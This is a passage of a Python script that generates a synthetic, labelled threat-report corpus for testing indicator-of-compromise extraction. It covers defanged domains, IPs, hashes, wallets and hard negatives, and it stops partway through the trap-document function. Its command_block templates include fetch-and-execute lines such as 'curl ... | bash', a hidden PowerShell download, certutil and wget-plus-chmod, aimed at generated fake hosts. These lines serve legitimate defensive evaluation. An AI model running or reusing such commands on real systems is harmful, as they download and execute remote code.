#!/usr/bin/env python3
"""Synthetic, labelled threat-report corpus for ioclens extraction (recipe: docs/accuracy.md).

    python3 scripts/eval/corpus.py --out DIR [--seed 7] [--docs 400] [--traps 100] [--probes 25] [--mb 0]

Writes, deterministically for a seed (same seed, same Python 3 minor series -> same bytes):

    DIR/accuracy.jsonl   labelled report-like documents: {"id", "text", "labels", "allowed", "negatives"}
    DIR/traps.jsonl      documents made only of hard negatives (nothing in them is an indicator)
    DIR/probes.jsonl     one indicator per line, one defang style per row: {"type", "style", "text", "value"}
    DIR/speed_corpus.txt report-like text plus technical filler, documents separated by a line holding "\\f"
                         (only with --mb > 0)

Standard library only; no network; nothing outside the repository.

Why one file: one reproducible script (a seed in, the same corpus out), runnable with nothing but Python; its
sections follow the corpus files above.
"""

import argparse
import hashlib
import ipaddress
import json
import os
import random

from labels import canonical

# ---------------------------------------------------------------- vocabulary (ours; nothing here is real infra)

# Delegated TLDs that are not on the file-extension list (data/dns/file_extension_tlds.txt), plus a few
# two-level public suffixes.
TLDS = ("com", "net", "org", "info", "biz", "io", "xyz", "top", "site", "online", "club", "shop", "live", "icu",
        "app", "dev", "cloud", "link", "ru", "su", "cn", "de", "fr", "nl", "br", "in", "pw", "cc", "tk", "me",
        "us", "co.uk", "com.br", "com.cn", "co.jp")
PIECES = ("al", "bek", "cor", "dax", "el", "fen", "gor", "hal", "ix", "jun", "kel", "lum", "mar", "nox", "or",
          "pra", "quin", "ral", "sev", "tor", "ul", "ven", "wex", "yar", "zed",
          "update", "secure", "cdn", "static", "portal", "login", "files", "sync", "track", "relay", "mail",
          "docs", "share", "cloud", "edge", "node", "pay", "auth", "media", "stat", "api", "web")
MAILBOXES = ("admin", "billing", "support", "invoice", "payroll", "security", "noreply", "hr", "finance",
             "j.doe", "m.keller", "ops-team", "tax.office", "accounts2024", "r_ivanova", "helpdesk")
URL_PATHS = ("gate.php", "index.php?id=%d", "wp-includes/css/x%d.php", "api/v%d/check-in", "static/img/logo.png",
             "dl/setup_%d.exe", "files/Q%d-report.zip", "c/%d/task", "ping", "jquery-3.6.%d.min.js",
             "upload.aspx?sid=%d&k=t", "p/%d", "cgi-bin/status.cgi", "docs/invoice_%d.pdf", "b%d/stage2.bin")
FAMILIES = ("Bumblebee", "Latrodectus", "NetSupport RAT", "Remcos", "AgentTesla", "Gootloader", "Warzone",
            "XWorm", "Smokeloader", "Nitrogen", "Brute Ratel", "Mythic", "Akira", "Play", "Rhysida")
ACTORS = ("a financially motivated cluster", "the intrusion set", "the operators", "the affiliate",
          "an initial-access broker", "the threat actor", "the group")
# Real ATT&CK ids (checked against the bundled catalogue, core/src/generated/attack.rs).
ATTACK_IDS = ("T1059", "T1059.001", "T1059.003", "T1566.001", "T1566.002", "T1071.001", "T1105", "T1547.001",
              "T1053.005", "T1027", "T1486", "T1190", "T1204.002", "T1218.011", "T1055", "T1003.001",
              "T1021.001", "T1041", "T1572", "T1078", "T1082", "T1083", "T1112", "T1140", "T1562.001",
              "T1070.004", "T1036.005", "T1133", "T1219", "T1567.002", "TA0001", "TA0002", "TA0003", "TA0005",
              "TA0008", "TA0010", "TA0011", "TA0040")
# Public references a report cites: labelled URLs whose host (and any CVE/ATT&CK id inside) is allowed.
REFERENCES = ("https://attack.mitre.org/techniques/T1566/001/", "https://nvd.nist.gov/vuln/detail/CVE-2024-3400",
              "https://www.cisa.gov/known-exploited-vulnerabilities-catalog",
              "https://learn.microsoft.com/en-us/defender-endpoint/", "https://github.com/SigmaHQ/sigma",
              "https://www.first.org/cvss/v3.1/specification-document")

# ATT&CK object ids (group, software, mitigation, campaign), real and active in the bundled catalogue
# (data/attack/attack_enterprise.json); the extractor takes them only in a text that names ATT&CK.
ATTACK_OBJECTS = ("G0016", "G0007", "G0032", "G0034", "G0046", "G0050", "G0092", "G0102", "G0119", "G0010",
                  "S0154", "S0002", "S0363", "S0650", "S0367", "S0266", "S0331", "S0483",
                  "M1036", "M1038", "M1040", "M1042", "M1047", "M1049", "M1050", "M1026",
                  "C0024", "C0022", "C0017", "C0014", "C0028", "C0025", "C0027")
# Registry hives as reports write them -> the full name the extractor gives.
HIVES = {"HKCU": "HKEY_CURRENT_USER", "HKLM": "HKEY_LOCAL_MACHINE", "HKEY_LOCAL_MACHINE": "HKEY_LOCAL_MACHINE",
         "HKEY_CURRENT_USER": "HKEY_CURRENT_USER", "HKCU:": "HKEY_CURRENT_USER", "HKLM:": "HKEY_LOCAL_MACHINE",
         "hklm": "HKEY_LOCAL_MACHINE", "HKCR": "HKEY_CLASSES_ROOT"}
REG_KEYS = ("Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{n}",
            "Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\{n}",
            "SYSTEM\\CurrentControlSet\\Services\\{n}svc",
            "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
            "Software\\Classes\\{n}file\\shell\\open\\command",
            "Software\\{N}\\Config")
# Paths a report names (the extractor takes Unix paths only under well-known roots or ~/).
WIN_PATHS = ("C:\\Users\\Public\\Libraries\\{n}.exe", "C:\\ProgramData\\{N}\\{n}.dll",
             "C:\\Windows\\Temp\\{n}.ps1", "%APPDATA%\\{N}\\{n}.exe", "%TEMP%\\{n}.bat",
             "C:\\Program Files\\Common Files\\{N}\\{n}.dll", "\\\\FILESRV0{d}\\ADMIN$\\{n}.exe",
             "%LOCALAPPDATA%\\Temp\\{n}.vbs")
UNIX_PATHS = ("/tmp/.{n}/{n}", "/etc/cron.d/{n}", "/var/tmp/{n}.sh", "/usr/local/bin/{n}", "~/.ssh/authorized_keys",
              "~/Library/LaunchAgents/com.{n}.agent.plist", "/dev/shm/.{n}", "/etc/systemd/system/{n}.service")
# Public ASNs of hosting providers (numbers only; nothing here is scored as an address).
ASNS = (13335, 16509, 14061, 20473, 24940, 16276, 63949, 8075, 15169, 9009, 51167, 62240, 44477, 210644)

# ---------------------------------------------------------------- defang styles (what docs/extraction.md refangs)

# Separator written instead of a dot. Probes use every style; documents draw from DOT_MIX.
DOTS = {"plain": ".", "sq_dot": "[.]", "paren_dot": "(.)", "curly_dot": "{.}", "sq_word": "[dot]",
        "paren_word": "(dot)", "curly_word": "{dot}", "sq_DOT": "[DOT]", "bare_DOT": " DOT ",
        "backslash": "\\.", "spaced": " . ", "ideographic": "\u3002", "fullwidth": "\uff0e",
        "halfwidth": "\uff61", "small": "\ufe52", "zero_width": ".\u200b"}
DOT_MIX = {"plain": 45, "sq_dot": 30, "paren_dot": 5, "curly_dot": 2, "sq_word": 5, "paren_word": 3,
           "sq_DOT": 2, "bare_DOT": 1, "backslash": 2, "spaced": 1, "ideographic": 1, "fullwidth": 1,
           "zero_width": 1}
# Forms of the scheme; {s} is the scheme as labelled ("http", "https", "ftp").
SCHEMES = {"plain": "{s}://", "hxxp": "{x}://", "hXXp": "{X}://", "colon_sq": "{s}[:]//",
           "hxxp_colon_sq": "{x}[:]//", "sep_sq": "{s}[://]", "spaced": "{x}:// ", "h__p": "{u}://",
           "slash_sq": "{s}:[/][/]", "escaped_slash": "{s}:\\/\\/", "none": ""}
SCHEME_MIX = {"plain": 35, "hxxp": 35, "hXXp": 6, "colon_sq": 6, "hxxp_colon_sq": 6, "sep_sq": 2, "spaced": 2,
              "h__p": 1, "none": 7}
ATS = {"plain": "@", "sq_at": "[at]", "paren_at": "(at)", "curly_at": "{at}", "sq_AT": "[AT]", "sq_sym": "[@]",
       "paren_sym": "(@)", "bare_at": " at "}
AT_MIX = {"plain": 50, "sq_at": 18, "paren_at": 8, "curly_at": 2, "sq_AT": 4, "sq_sym": 12, "paren_sym": 3,
          "bare_at": 3}
# Styles that write spaces: never used where a space would end the token's context (emails).
SPACED = ("bare_DOT", "spaced", "zero_width")


def pick(rng, mix):
    names = sorted(mix)
    return rng.choices(names, weights=[mix[n] for n in names])[0]


def refang_host(host, style, rng, every=None):
    """Write `host` with `style` separators: every dot, or only the last one (how most reports defang)."""
    if style == "plain":
        return host
    sep = DOTS[style]
    labels = host.split(".")
    if every is None:
        every = rng.random() < 0.5
    if every or len(labels) == 2:
        return sep.join(labels)
    return ".".join(labels[:-1]) + sep + labels[-1]


def scheme_text(style, scheme):
    hidden = scheme.replace("tt", "xx").replace("ftp", "fxp")
    return SCHEMES[style].format(s=scheme, x=hidden, X=hidden.replace("xx", "XX"), u=scheme.replace("tt", "__"))


# ---------------------------------------------------------------- indicator values


def new_label(rng):
    label = "".join(rng.choice(PIECES) for _ in range(rng.choice((1, 2, 2, 3))))
    if rng.random() < 0.2:
        label += "-" + rng.choice(PIECES)
    if rng.random() < 0.15:
        label += str(rng.randint(2, 98))
    return label


def new_domain(rng):
    name = new_label(rng) + "." + rng.choice(TLDS)
    if rng.random() < 0.3:
        name = new_label(rng) + "." + name
    return name


def new_ipv4(rng):
    while True:
        ip = ipaddress.IPv4Address(rng.getrandbits(32))
        last = int(ip) & 0xFF
        if ip.is_global and not ip.is_multicast and last not in (0, 255):
            return str(ip)


def new_private_ipv4(rng):
    block = rng.choice(("10.%d.%d.%d", "192.168.%d.%d", "172.%d.%d.%d"))
    if block.startswith("172."):
        return block % (rng.randint(16, 31), rng.randint(0, 255), rng.randint(1, 254))
    if block.startswith("192."):
        return block % (rng.randint(0, 255), rng.randint(1, 254))
    return block % (rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254))


def new_ipv6(rng):
    while True:
        groups = [rng.choice((0x2001, 0x2400, 0x2600, 0x2604, 0x2a00, 0x2a02, 0x2a05, 0x2c0f)) + rng.randint(1, 0xff)]
        groups += [rng.getrandbits(16) for _ in range(7)]
        if rng.random() < 0.65:
            start = rng.randint(2, 5)
            for i in range(start, start + rng.randint(2, 3)):
                groups[i] = 0
        ip = ipaddress.IPv6Address(":".join("%x" % g for g in groups))
        if ip.is_global:
            return ip


def new_hex(rng, digits):
    return "%0*x" % (digits, rng.getrandbits(digits * 4))


def new_cve(rng):
    return "CVE-%d-%d" % (rng.randint(2015, 2025), rng.randint(1000, 49999))


def new_path(rng):
    path = rng.choice(URL_PATHS)
    return path % rng.randint(1, 9999) if "%d" in path else path


B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
B32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def base58check(payload):
    data = payload + hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]
    n = int.from_bytes(data, "big")
    out = ""
    while n:
        n, r = divmod(n, 58)
        out = B58[r] + out
    return "1" * (len(data) - len(data.lstrip(b"\0"))) + out


def bech32_polymod(values):
    gen = (0x3B6A57B2, 0x26508E6D, 0x1EA119FA, 0x3D4233DD, 0x2A1462B3)
    chk = 1
    for v in values:
        top = chk >> 25
        chk = (chk & 0x1FFFFFF) << 5 ^ v
        for i in range(5):
            chk ^= gen[i] if (top >> i) & 1 else 0
    return chk


def segwit_address(version, program):
    """BIP-173 (v0, Bech32) / BIP-350 (v1+, Bech32m) address for `program` on mainnet (`bc`)."""
    acc, bits, data = 0, 0, [version]
    for b in program:
        acc = (acc << 8) | b
        bits += 8
        while bits >= 5:
            bits -= 5
            data.append((acc >> bits) & 31)
    if bits:
        data.append((acc << (5 - bits)) & 31)
    const = 1 if version == 0 else 0x2BC830A3
    hrp = [ord(c) >> 5 for c in "bc"] + [0] + [ord(c) & 31 for c in "bc"]
    mod = bech32_polymod(hrp + data + [0] * 6) ^ const
    return "bc1" + "".join(B32[d] for d in data + [(mod >> 5 * (5 - i)) & 31 for i in range(6)])


def new_btc(rng):
    roll = rng.random()
    if roll < 0.35:
        return base58check(b"\0" + rng.randbytes(20))
    if roll < 0.55:
        return base58check(b"\5" + rng.randbytes(20))
    if roll < 0.85:
        return segwit_address(0, rng.randbytes(20))
    return segwit_address(1, rng.randbytes(32))


def bad_checksum(rng, value, alphabet):
    """`value` with one character of its body changed (within its alphabet): the checksum no longer holds."""
    start = 4 if value.startswith("bc1") else 1
    i = rng.randrange(start, len(value))
    return value[:i] + rng.choice([c for c in alphabet if c != value[i]]) + value[i + 1:]


def new_onion(rng):
    """A Tor v3 name: base32(pubkey | checksum | version 3), checksum = SHA3-256(".onion checksum" | pubkey | 3)."""
    key = rng.randbytes(32)
    check = hashlib.sha3_256(b".onion checksum" + key + b"\x03").digest()[:2]
    import base64
    return base64.b32encode(key + check + b"\x03").decode("ascii").lower() + ".onion"


def new_name(rng):
    return rng.choice(PIECES) + rng.choice(PIECES)


def fill(template, rng):
    name = new_name(rng)
    return template.format(n=name, N=name.capitalize(), d=rng.randint(1, 9))


# ---------------------------------------------------------------- documents


class Doc:
    """Text under construction plus its labels. `labels` must be found; `allowed` may be reported without
    penalty (hosts of URLs, domains of e-mails, private addresses, ids inside reference URLs)."""

    def __init__(self):
        self.chunks = []
        self.labels = {}
        self.allowed = {}
        self.negatives = []

    def need(self, kind, value):
        self.labels.setdefault(kind, set()).add(canonical(kind, value))

    def allow(self, kind, value):
        self.allowed.setdefault(kind, set()).add(canonical(kind, value))

    def write(self, text):
        self.chunks.append(text)

    def size(self):
        return sum(len(c) for c in self.chunks)

    def record(self, ident):
        text = "".join(self.chunks)
        allowed = {k: sorted(v - self.labels.get(k, set())) for k, v in self.allowed.items()}
        return {"id": ident, "text": text, "labels": {k: sorted(v) for k, v in sorted(self.labels.items())},
                "allowed": {k: v for k, v in sorted(allowed.items()) if v}, "negatives": self.negatives}


def domain_mention(rng, doc, style=None):
    host = new_domain(rng)
    doc.need("domain", host)
    style = style or pick(rng, DOT_MIX)
    text = refang_host(host, style, rng)
    if style in ("plain", "sq_dot") and rng.random() < 0.08:
        text = text.upper()  # hosts written in capitals (never mixed case: that reads as a code identifier)
    return text


def ipv4_mention(rng, doc, style=None):
    ip = new_ipv4(rng)
    doc.need("ipv4", ip)
    chosen = style or pick(rng, DOT_MIX)
    if style is None and chosen in ("sq_word", "paren_word", "curly_word", "sq_DOT", "bare_DOT"):
        chosen = "sq_dot"  # word separators between octets are rare in reports: probes cover them
    text = refang_host(ip, chosen, rng)
    if style is None and rng.random() < 0.1:
        port = rng.choice((8080, 4444, 8443, 2222, 53))
        doc.need("ip_port", "%s:%d" % (ip, port))
        text += ":%d" % port
    return text


def ipv6_mention(rng, doc):
    ip = new_ipv6(rng)
    doc.need("ipv6", ip.compressed)
    roll = rng.random()
    if roll < 0.15:
        return ip.exploded.upper()
    if roll < 0.3:
        return ip.compressed.upper()
    return ip.compressed


def url_mention(rng, doc, scheme_style=None, dot_style=None, on_ip=None, scheme=None):
    if on_ip is None:
        on_ip = rng.random() < 0.15
    host = new_ipv4(rng) if on_ip else new_domain(rng)
    doc.allow("ipv4" if on_ip else "domain", host)
    scheme = scheme or ("ftp" if rng.random() < 0.03 else rng.choice(("http", "https")))
    s_style = scheme_style or pick(rng, SCHEME_MIX)
    d_style = dot_style or pick(rng, DOT_MIX)
    if on_ip and d_style in ("sq_word", "paren_word", "curly_word", "sq_DOT", "bare_DOT"):
        d_style = "sq_dot"
    port = ":" + str(rng.choice((8080, 8443, 4443, 8888))) if rng.random() < 0.08 else ""
    path = new_path(rng) if (s_style == "none" or rng.random() < 0.9) else ""
    if s_style == "none" and d_style == "plain":
        d_style = "sq_dot"  # a bare host/path reads as a URL only when defanged (docs/INTENTIONAL.md #4, #13)
    doc.need("url", host + port + ("/" + path if path else ""))
    prefix = scheme_text(s_style, scheme)
    return prefix + refang_host(host, d_style, rng) + port + ("/" + path if path else "")


def email_mention(rng, doc, at_style=None, dot_style=None):
    box = rng.choice(MAILBOXES)
    host = new_domain(rng)
    doc.need("email", box + "@" + host)
    doc.allow("domain", host)
    a_style = at_style or pick(rng, AT_MIX)
    d_style = dot_style or ("plain" if a_style == "plain" and rng.random() < 0.7 else pick(rng, DOT_MIX))
    if d_style in SPACED:
        d_style = "sq_dot"
    return box + ATS[a_style] + refang_host(host, d_style, rng, every=False)


def hash_mention(rng, doc, digits):
    value = new_hex(rng, digits)
    doc.need({32: "md5", 40: "sha1", 64: "sha256"}[digits], value)
    return value.upper() if rng.random() < 0.15 else value


def cve_mention(rng, doc):
    cve = new_cve(rng)
    doc.need("cve", cve)
    roll = rng.random()
    if roll < 0.05:
        return cve.lower()
    if roll < 0.1:
        return cve.replace("-", "\u2011")  # non-breaking hyphen, as copied out of PDFs
    return cve


def attack_mention(rng, doc):
    ident = rng.choice(ATTACK_IDS)
    doc.need("attack", ident)
    return ident


def btc_mention(rng, doc):
    value = new_btc(rng)
    doc.need("btc", value)
    return value.upper() if value.startswith("bc1") and rng.random() < 0.1 else value


def registry_mention(rng, doc):
    hive = rng.choice(sorted(HIVES))
    key = fill(rng.choice(REG_KEYS), rng)
    doc.need("registry_key", HIVES[hive] + "\\" + key)
    return hive + "\\" + key


def path_mention(rng, doc):
    value = fill(rng.choice(WIN_PATHS if rng.random() < 0.6 else UNIX_PATHS), rng)
    doc.need("file_path", value)
    return value


def asn_mention(rng, doc):
    number = rng.choice(ASNS)
    doc.need("asn", "AS%d" % number)
    return rng.choice(("AS%d", "AS%d", "AS %d", "ASN%d", "ASN %d")) % number


def onion_mention(rng, doc):
    host = new_onion(rng)
    doc.need("onion", host)
    style = rng.choice(("plain", "plain", "sq_dot", "url"))
    if style == "url":
        path = rng.choice(("", "/login.php", "/blog/", "/chat/%d" % rng.randint(1, 999)))
        doc.need("url", host + path)
        doc.allow("onion", host)
        return rng.choice(("http://", "hxxp://")) + refang_host(host, rng.choice(("plain", "sq_dot")), rng) + path
    return refang_host(host, style, rng)


def attack_object_mention(rng, doc):
    ident = rng.choice(ATTACK_OBJECTS)
    doc.need("attack_object", ident)
    return ident


MENTION = {"domain": domain_mention, "ipv4": ipv4_mention, "ipv6": ipv6_mention, "url": url_mention,
           "email": email_mention, "cve": cve_mention, "attack": attack_mention,
           "md5": lambda rng, doc: hash_mention(rng, doc, 32), "sha1": lambda rng, doc: hash_mention(rng, doc, 40),
           "sha256": lambda rng, doc: hash_mention(rng, doc, 64), "btc": btc_mention,
           "registry_key": registry_mention, "file_path": path_mention, "asn": asn_mention, "onion": onion_mention,
           "attack_object": attack_object_mention}
TYPE_MIX = {"domain": 18, "ipv4": 15, "url": 22, "email": 6, "sha256": 11, "md5": 7, "sha1": 5, "cve": 6,
            "attack": 6, "ipv6": 4, "btc": 2, "registry_key": 2, "file_path": 3, "asn": 2, "onion": 2,
            "attack_object": 2}

SENTENCES = {
    "net": ("Beacons went to {i} roughly every five minutes.",
            "The loader resolved {i} before pulling the next stage.",
            "Proxy logs show the host reaching out to {i} shortly after the macro ran.",
            "{f} used {i} as a fallback command-and-control address.",
            "Block {i} at the perimeter and hunt for earlier connections to it.",
            "The C2 server at {i} answered with a base64 blob.",
            "We saw DNS queries for {i} from three workstations in the same VLAN.",
            "Exfiltrated archives were uploaded to {i} over TLS."),
    "email": ("The lure came from {i} with a password-protected archive attached.",
              "Victims were asked to reply to {i} to confirm the payment.",
              "Messages spoofing the CFO were sent from {i}."),
    "hash": ("The dropper has the hash {i} and is signed with a stolen certificate.",
             "{f} samples, for example {i}, share one PDB path.",
             "Search endpoint telemetry for {i}.",
             "A second DLL ({i}) was side-loaded by a legitimate binary."),
    "cve": ("The edge appliance was compromised through {i}.",
            "{a} exploited {i} within a week of disclosure.",
            "Patching {i} closes the entry point described here."),
    "attack": ("This step maps to ATT&CK technique {i}.",
               "Persistence used a scheduled task, see {i}.",
               "We also observed {i} during the intrusion."),
    "btc": ("The ransom note asks for 0.8 BTC to {i} within 72 hours.",
            "Payments to the wallet {i} were traced to an exchange.",
            "{f} affiliates were paid through {i}."),
    "registry_key": ("Persistence was set under {i} by the installer.",
                     "The implant stores its configuration in {i}.",
                     "Check {i} for unexpected values."),
    "file_path": ("The dropper wrote {i} and executed it.",
                  "{f} copies itself to {i} before the reboot.",
                  "A second stage was staged at {i}."),
    "asn": ("The C2 servers were hosted on {i}.",
            "Most scanning came from {i}, a hosting provider.",
            "Traffic shifted to infrastructure in {i} in March."),
    "onion": ("The leak site {i} listed the victim two days later.",
              "Negotiation happened on {i}.",
              "Stolen data was published at {i}."),
    "attack_object": ("In MITRE ATT&CK the overlap is tracked as {i}.",
                      "The ATT&CK entry {i} describes related activity.",
                      "See ATT&CK object {i} for the mapping."),
}
GROUP = {"domain": "net", "ipv4": "net", "ipv6": "net", "url": "net", "email": "email", "md5": "hash",
         "sha1": "hash", "sha256": "hash", "cve": "cve", "attack": "attack", "btc": "btc",
         "registry_key": "registry_key", "file_path": "file_path", "asn": "asn", "onion": "onion",
         "attack_object": "attack_object"}
PROSE = ("The activity began with a phishing wave in the second week of the month.",
         "Credentials harvested during the first stage were reused against the VPN portal.",
         "We assess with moderate confidence that the same operators ran both waves.",
         "The implant collects host details and sends them as JSON.",
         "Defenders should rotate service-account passwords and review remote-access logs.",
         "Most victims were in the logistics and manufacturing sectors.",
         "The payload is packed with a custom XOR stub and resolves imports by hash.",
         "Our detection rules for this behaviour are published separately.")

# ---------------------------------------------------------------- hard negatives (none of these is an indicator)

FILE_STEMS = ("invoice", "loader", "update", "readme", "payload", "setup", "notes", "report", "config", "stage2",
              "install", "main", "helper", "build")
# Extensions that are not TLDs, and TLDs that the extractor treats as file extensions when written bare.
FILE_EXTS = ("exe", "dll", "pdf", "docx", "xlsm", "txt", "json", "ps1", "bat", "vbs", "lnk", "iso", "msi", "hta",
             "js", "zip", "py", "sh", "md", "mov", "rs", "pl", "cab", "java")
CODE_TOKENS = ("System.Net.WebClient", "System.IO.File", "Microsoft.Win32.Registry", "os.path.join",
               "window.location.href", "document.write", "json.loads", "ASP.NET", "VB.NET", "Node.js",
               "Net.WebClient", "Environment.GetFolderPath")
NEGATIVE_SENTENCES = ("The archive held {n}.", "It drops {n} into the temp folder.", "A file named {n} was found.",
                      "The script calls {n} to fetch data.", "It was tested on {n}.", "See {n} for details.")


def negative(rng, trap=False):
    """One hard negative (text, what it is): each kind is one the extractor documents it leaves alone. `trap`:
    for a trap document (a text that never names ATT&CK, where ATT&CK-shaped ids must be left alone)."""
    kind = rng.randrange(13)
    if kind in (0, 1, 2):
        name = rng.choice(FILE_STEMS) + "." + rng.choice(FILE_EXTS)
        return rng.choice(NEGATIVE_SENTENCES[:3]).format(n=name), "file " + name
    if kind in (3, 4):
        token = rng.choice(CODE_TOKENS)
        return rng.choice(NEGATIVE_SENTENCES[3:]).format(n=token), "code " + token
    if kind == 5:
        v = "%d.%d.%d" % (rng.randint(1, 30), rng.randint(0, 40), rng.randint(0, 300))
        v = rng.choice(("v", "version ", "OpenSSL ")) + v
        return "The builder reports %s." % v, "version " + v
    if kind == 6:
        v = "%d.0.%d.%d" % (rng.choice((10, 6)), rng.randint(1000, 26000), rng.randint(1, 3000))
        return "Seen on Windows build %s and later." % v, "build " + v
    if kind == 7:
        v = "%02d:%02d:%02d" % (rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59))
        return "The task fired at %s UTC." % v, "time " + v
    if kind == 8:
        v = ":".join("%02X" % rng.getrandbits(8) for _ in range(6))
        return "The adapter MAC was %s." % v, "mac " + v
    if kind == 9:
        v = new_hex(rng, 128)
        return "Its SHA-512 is %s." % v, "sha512 " + v[:12]
    if kind == 10:
        parts = (new_hex(rng, 8), new_hex(rng, 4), new_hex(rng, 4), new_hex(rng, 4), new_hex(rng, 12))
        v = "{" + "-".join(parts).upper() + "}"
        return "The COM class %s is hijacked for persistence." % v, "guid " + v
    if kind == 11:
        return new_type_negative(rng, trap)
    v = "%d.%d.%d.%d.%d" % tuple(rng.randint(1, 250) for _ in range(5))
    return "Section %s of the manual covers it." % v, "dotted " + v


def new_type_negative(rng, trap):
    """A hard negative for the issue-19 types: bad checksums, prose that looks like an ASN, a lone drive, names
    that are not v3 onions, version strings with ports, hives without a key, ATT&CK-shaped ids out of context
    (trap documents only: the scorer extracts all labelled documents as one text, which names ATT&CK)."""
    kind = rng.randrange(10)
    if kind == 8 and not trap:
        kind = 9
    if kind == 0:
        v = bad_checksum(rng, new_btc(rng), B58)
        if v.startswith("bc1"):
            v = bad_checksum(rng, new_btc(rng), B58)
        return "The note lists %s, one character off." % v, "btc-checksum " + v
    if kind == 1:
        v = segwit_address(0, rng.randbytes(20))
        v = bad_checksum(rng, v, B32)
        return "A mistyped wallet %s was also posted." % v, "bech32-checksum " + v
    if kind == 2:
        return rng.choice(("Patch AS SOON AS possible.", "Act as soon as AS 1.2 lands.",
                           "The CLASS1234 object and AS13335x are parts, as 13335 people said.")), "asn-prose"
    if kind == 3:
        return rng.choice(("Scan C:\\ and D: drives first.", "The ratio was 3:\\ nothing else.",
                           "Everything under C:\\ was encrypted.")), "lone-drive"
    if kind == 4:
        v = rng.choice(("admin.onion", "%s.onion" % new_name(rng), "3g2upl4pq6kufc4m.onion"))
        return "The name %s is not a v3 onion service." % v, "onion " + v
    if kind == 5:
        v = new_onion(rng)
        v = bad_checksum(rng, v[:-6], "abcdefghijklmnopqrstuvwxyz234567") + ".onion"
        return "A copy of the site at %s failed to load." % v, "onion-checksum " + v
    if kind == 6:
        v = "v%d.%d.%d.%d:%d" % (rng.randint(1, 9), rng.randint(0, 9), rng.randint(0, 9), rng.randint(0, 99),
                                  rng.randint(1, 9))
        return "Tested on %s in the lab." % v, "version-port " + v
    if kind == 7:
        return rng.choice(("The HKLM hive and HKCU are both touched.", "Both HKCU and HKLM were exported.")), "hive"
    if kind == 8:
        v = rng.choice(ATTACK_OBJECTS)
        return "Order part %s from aisle %d." % (v, rng.randint(1, 40)), "attack-no-context " + v
    return rng.choice(("Read/write and/or TCP/UDP over the /24 network.", "See /docs/guide for details.",
                       "The 50/50 split held.")), "slash-prose"


def paragraph(rng, doc):
    sentences = []
    for _ in range(rng.randint(3, 7)):
        roll = rng.random()
        if roll < 0.45:
            kind = pick(rng, TYPE_MIX)
            ioc = MENTION[kind](rng, doc)
            text = rng.choice(SENTENCES[GROUP[kind]]).format(i=ioc, f=rng.choice(FAMILIES), a=rng.choice(ACTORS))
            wrap = rng.random()
            if wrap < 0.04:
                text = text.replace(ioc, "(" + ioc + ")", 1)
            elif wrap < 0.07:
                text = text.replace(ioc, '"' + ioc + '"', 1)
            elif wrap < 0.09:
                text = text.replace(ioc, "<" + ioc + ">", 1)
            elif wrap < 0.11:
                text = text.replace(ioc, "'" + ioc + "'", 1)
            sentences.append(text)
        elif roll < 0.57:
            text, what = negative(rng)
            doc.negatives.append(what)
            sentences.append(text)
        else:
            sentences.append(rng.choice(PROSE))
    doc.write(" ".join(sentences) + "\n\n")


def ioc_table(rng, doc):
    layout = rng.choice(("markdown", "csv", "tsv", "bullets", "html"))
    rows = []
    for _ in range(rng.randint(4, 18)):
        kind = pick(rng, TYPE_MIX)
        ioc = MENTION[kind](rng, doc)
        role = rng.choice(("C2", "payload", "phishing", "exfiltration", "staging", "download"))
        if layout == "markdown":
            rows.append("| %s | %s | %s |" % (ioc, kind, role))
        elif layout == "csv":
            rows.append("%s,%s,%s" % (kind, ioc, role))
        elif layout == "tsv":
            rows.append("%s\t%s\t%s" % (ioc, kind, role))
        elif layout == "html":
            rows.append("<tr><td>%s</td><td>%s</td></tr>" % (ioc, role))
        else:
            rows.append("* %s (%s)" % (ioc, role))
    head = {"markdown": "| Indicator | Type | Role |\n|---|---|---|\n", "csv": "type,indicator,role\n",
            "html": "<table>\n"}.get(layout, "")
    tail = "\n</table>" if layout == "html" else ""
    doc.write("Indicators of compromise\n\n" + head + "\n".join(rows) + tail + "\n\n")


def command_block(rng, doc):
    url = url_mention(rng, doc, scheme_style="plain", dot_style="plain")
    line = rng.choice(("powershell -w hidden -c \"iwr '{u}' -OutFile $env:TEMP\\a.exe\"",
                       "curl -fsSL {u} | bash", "certutil -urlcache -f {u} C:\\ProgramData\\u.dll",
                       "wget -qO /tmp/.k {u} && chmod +x /tmp/.k"))
    for path in ("C:\\ProgramData\\u.dll", "/tmp/.k"):
        if path in line:
            doc.need("file_path", path)
    doc.write("```\n" + line.format(u=url) + "\n```\n\n")


def reference(rng, doc):
    url = rng.choice(REFERENCES)
    key = canonical("url", url)
    doc.need("url", url)
    doc.allow("domain", key.split("/", 1)[0])
    for part in key.replace("/", " ").split():
        if part.startswith("CVE-"):
            doc.allow("cve", part)
    if "attack.mitre.org/techniques/" in key:
        tid = key.split("/techniques/", 1)[1].strip("/").replace("/", ".")
        doc.allow("attack", tid)
        doc.allow("attack", tid.split(".")[0])
    doc.write("Reference: %s\n\n" % url)


def private_host(rng, doc):
    ip = new_private_ipv4(rng)
    doc.allow("ipv4", ip)
    doc.write("The first infected workstation (%s) was taken off the network.\n\n" % ip)


def report(rng, target, filler=False):
    doc = Doc()
    doc.write("%s intrusion leading to %s\nTLP:CLEAR, published 2025-%02d-%02d\n\n" % (
        rng.choice(FAMILIES), rng.choice(FAMILIES), rng.randint(1, 12), rng.randint(1, 28)))
    while doc.size() < target:
        if filler and rng.random() < 0.5:
            doc.write(filler_paragraph(rng) + "\n\n")
            continue
        roll = rng.random()
        if roll < 0.5:
            paragraph(rng, doc)
        elif roll < 0.67:
            ioc_table(rng, doc)
        elif roll < 0.77:
            command_block(rng, doc)
        elif roll < 0.82:
            reference(rng, doc)
        elif roll < 0.87:
            private_host(rng, doc)
        else:
            doc.write(rng.choice(PROSE) + "\n\n")
    return doc


def trap(rng):
    """A document with no indicator at all: hard negatives, prose, and prose that merely resembles defanging."""
    doc = Doc()
    doc.write("Appendix: build notes\n\n")
    for _ in range(rng.randint(6, 16)):
        roll = rng.random()
        if roll < 0.75:
            text, what = negative(rng, trap=True)
            doc.negatives.append(what)
            doc.write(text + " ")
        elif roll < 0.85:
            doc.write("Back in the dot com era nobody filtered egress. ")
        elif roll < 0.92:
            doc.write("The operators were active at night. The server at the edge was rebooted. ")
        else:
